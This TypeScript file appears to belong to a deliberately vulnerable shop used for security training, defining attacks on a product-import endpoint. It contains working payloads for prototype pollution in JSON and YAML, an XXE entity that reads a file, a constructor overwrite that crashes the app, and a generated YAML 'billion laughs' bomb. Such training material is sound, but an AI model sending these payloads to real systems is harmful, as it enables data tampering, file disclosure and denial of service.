import type { Attack, Place } from './attack.ts';
import { arm, effectOf, holdOf } from './effect.ts';
import { answerOf, request, shownOf } from './request.ts';

const place = { group: 'Parsers', part: 'parse', fixed: true } as const;
const code = [{ file: 'import.ts' }] as const;

const send = (format: string, text: string) => ({ name: `products.${format}`, text });

const polluted = (format: string, file = 'import.ts'): Place => ({
  ...{ ...place, endpoint: `POST import ${format}`, code: [{ file }] },
  async fire(app, range, payload) {
    const armed = arm(app, payload);
    const reply = await request(app, 'POST', 'import', send(format, armed.payload));
    // What somebody else pays, who sent nothing.
    const shipping = await request(app, 'GET', 'shipping?country=Norway');
    await app.tidy();
    const outcome = await effectOf(app, reply, range);
    return { ...outcome, ...(shipping.body.includes(':0') && { lost: 'free shipping for every customer' }) };
  },
});

const json = polluted('json');
const yaml = polluted('yaml');
const xml = polluted('xml', 'read-xml.ts');

const bomb: Place = {
  ...{ ...place, slow: true, endpoint: 'POST import yaml, aliases', code },
  fire: (app, range, payload) =>
    holdOf(app, () => request(app, 'POST', 'import', send('yaml', payload)), range),
};

/** No parser can refuse each name that objects inherit: what merges the data must look at own properties alone. */
const merged: Place = {
  ...{
    ...place,
    slow: true,
    endpoint: 'POST import json, merged',
    code: [{ file: 'import.ts', name: 'merge' }],
  },
  async fire(app, { look }, payload) {
    const reply = await request(app, 'POST', 'import', send('json', payload));
    const next = await request(app, 'GET', 'products');
    const isBroken = next.status !== 200;
    if (isBroken) await app.restart();
    else await app.files.restore();
    return {
      ...{ answer: answerOf(reply), ...shownOf(reply, look) },
      ...(isBroken && { lost: 'the shop no longer answers anybody' }),
    };
  },
};

export const importPlaces: readonly Place[] = [json, yaml, xml, bomb, merged];

/** Nine lists, each of nine times the one before: 387 million values in 420 characters. */
const laughs = [...'abcdefghi']
  .map((name, i, names) => {
    const item = i === 0 ? 'ha' : `*${names[i - 1]}`;
    return `  ${name}: &${name} [${Array<string>(9).fill(item).join(', ')}]`;
  })
  .join('\n');

/** Lists of products that are more than lists. */
export function importAttacks(): Attack[] {
  const own = { guide: false, kind: 'pollution' };
  return [
    {
      ...{ ...json, ...own, name: "the prototype's name" },
      payload: '[{"name":"Rope","__proto__":{"free":true}}]',
    },
    {
      ...{ ...json, ...own, name: 'by the constructor' },
      payload: '[{"name":"Rope","constructor":{"prototype":{"free":true}}}]',
    },
    {
      ...yaml,
      ...own,
      guide: true,
      name: 'the prototype in YAML',
      payload: '- name: Rope\n  __proto__:\n    free: true\n',
    },
    {
      ...{ ...xml, ...own, kind: 'xxe', name: 'an entity that is a file' },
      payload:
        '<!DOCTYPE products [<!ENTITY key SYSTEM "SECRET">]>\n<products><product><name>&key;</name></product></products>',
    },
    {
      ...{ ...merged, ...own, name: 'the function that makes all objects' },
      payload: '[{"name":"Rope","constructor":{"keys":1}}]',
    },
    {
      ...bomb,
      ...own,
      guide: true,
      kind: 'dos',
      name: 'a billion laughs',
      payload: `- name: Rope\n${laughs}\n`,
    },
  ];
}
